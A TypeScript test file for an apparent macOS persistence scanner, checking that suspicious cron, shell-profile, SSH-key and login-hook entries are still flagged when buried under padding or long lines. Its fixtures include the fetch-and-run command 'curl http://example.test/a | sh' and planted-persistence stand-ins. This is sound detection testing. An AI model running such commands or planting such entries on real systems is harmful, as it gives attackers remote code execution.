import { describe, expect, test } from 'vitest';
import { mechanisms, readItems } from '../../../src/mechanisms/index.js';
import type { MechanismFile } from '../../../src/mechanisms/mechanism.js';
import { textFile } from './mechanism-file.js';

const tab = '/private/var/at/tabs/mara';
const keys = '/Users/mara/.ssh/authorized_keys';
const task = '/Users/mara/Projects/x/.vscode/tasks.json';
const profile = '/Users/mara/.zshrc';
const evil = '* * * * * curl http://example.test/a | sh';
const limit = 1024 * 1024;
const end = 128 * 1024;

/** As a sensor reads a file that is too large to be kept whole. */
function read(id: string, path: string, text: string) {
  const whole = Buffer.from(text);
  const cut: Partial<MechanismFile> =
    whole.length <= limit
      ? {}
      : {
          content: {
            bytes: whole.subarray(0, limit),
            size: whole.length,
            truncated: true,
            tail: whole.subarray(-end),
          },
        };
  const mechanism = mechanisms.find((one) => one.id === id);
  if (mechanism === undefined) throw new Error(id);
  return readItems(mechanism, textFile(path, text, cut));
}

const findingsOf = (...given: Parameters<typeof read>) => read(...given).flatMap(({ findings }) => findings);
const comments = (bytes: number) => '# nothing to see here\n'.repeat(Math.ceil(bytes / 22));

describe('what is padded', () => {
  test('a line behind a megabyte is read, and that not everything was is a finding', () => {
    const [item] = read('cron', tab, `${comments(limit)}${evil}\n`);
    expect(item?.label).toBe('curl http://example.test/a | sh');
    expect(item?.findings).toEqual(expect.arrayContaining(['remote-script', 'oversized']));
  });

  test.each([
    ['cron', tab, `${comments(limit)}${evil}\n${comments(limit)}`],
    ['ssh-authorized-key', keys, `${comments(limit)}ssh-ed25519 AAAA evil\n${comments(limit)}`],
    ['editor-task', task, `{"tasks":[]${' '.repeat(limit)}}`],
  ])('%s: what stands between the beginning and the end is an item all the same', (id, path, text) => {
    expect(read(id, path, text)).toHaveLength(1);
    expect(findingsOf(id, path, text)).toContain('oversized');
  });

  test('what a shell reads is no database because it begins like one', () => {
    expect(findingsOf('shell-startup', profile, `SQLite format 3\n${comments(limit)}`)).toContain(
      'oversized',
    );
  });

  test('a property list with more values than are read is an item, whatever it holds behind them', () => {
    const padding = '<key>a</key><true/>'.repeat(50_001);
    const hook = '<key>LoginHook</key><string>/tmp/x</string>';
    const path = '/Library/Preferences/com.apple.loginwindow.plist';
    const list = (inner: string) => `<plist><dict>${inner}</dict></plist>`;
    expect(findingsOf('login-hook', path, list(`${padding}${hook}`))).toContain('plist-too-complex');
    expect(read('login-hook', path, list(hook))).toHaveLength(1);
    expect(read('login-hook', path, list('<key>a</key><true/>'))).toEqual([]);
  });

  test.each([
    ['in front', (command: string) => `: ${'x'.repeat(60_000)} ; ${command}`],
    ['behind', (command: string) => `${command} ; : ${'x'.repeat(60_000)}`],
  ])('a command with a long argument of another %s of it', (_, hide) => {
    const findings = findingsOf('shell-startup', profile, hide('curl http://example.test/a | sh'));
    expect(findings).toEqual(expect.arrayContaining(['remote-script', 'line-cut']));
  });

  test('a command between two long arguments is a cut line', () => {
    const long = `: ${'x'.repeat(60_000)}`;
    expect(findingsOf('shell-startup', profile, `${long}; /tmp/evil; ${long}`)).toContain('line-cut');
  });

  test('blanks in a line take no room', () => {
    const findings = findingsOf(
      'cron',
      tab,
      `* * * * * true;${' '.repeat(90_000)}curl http://example.test | sh`,
    );
    expect(findings).toContain('remote-script');
    expect(findings).not.toContain('line-cut');
  });

  test('more suspicious lines than are read', () => {
    const lines = Array.from({ length: 5_000 }, (_, index) => `git log | head -n ${index}`).join('\n');
    expect(findingsOf('shell-startup', profile, `${lines}\n/tmp/evil`)).toContain('script-cut');
  });

  test('an odd entry is kept behind any number of others', () => {
    const lines = Array.from({ length: 600 }, (_, index) => `0 0 1 1 * /usr/bin/true ${index}`).join('\n');
    const items = read('cron', tab, `${lines}\n${evil}\n`);
    expect(items.length).toBeLessThanOrEqual(256);
    expect(items.flatMap(({ findings }) => findings)).toEqual(
      expect.arrayContaining(['remote-script', 'too-many-items']),
    );
  });

  test('lines of the same command start whenever any of them does', () => {
    const [item, ...others] = read('cron', tab, '0 0 1 1 * /usr/bin/true\n@reboot /usr/bin/true\n');
    expect(others).toEqual([]);
    expect(item?.when).toEqual(['calendar', 'boot']);
  });

  test.each([
    ['a profile of the usual kind', 'shell-startup', profile, `${comments(60_000)}alias ll='ls -l'\n`],
    ['a module', 'pam', '/usr/local/lib/pam/pam_x.so', `\xcf\xfa\xed\xfe${'x'.repeat(20_000)}`],
  ])('nothing to say about %s', (_, id, path, text) => {
    const file = textFile(path, '', { content: contentOf(Buffer.from(text, 'latin1')) });
    const mechanism = mechanisms.find((one) => one.id === id);
    expect(mechanism && readItems(mechanism, file).flatMap(({ findings }) => findings)).toEqual([]);
  });
});

function contentOf(bytes: Buffer): NonNullable<MechanismFile['content']> {
  return { bytes, size: bytes.length, truncated: false };
}
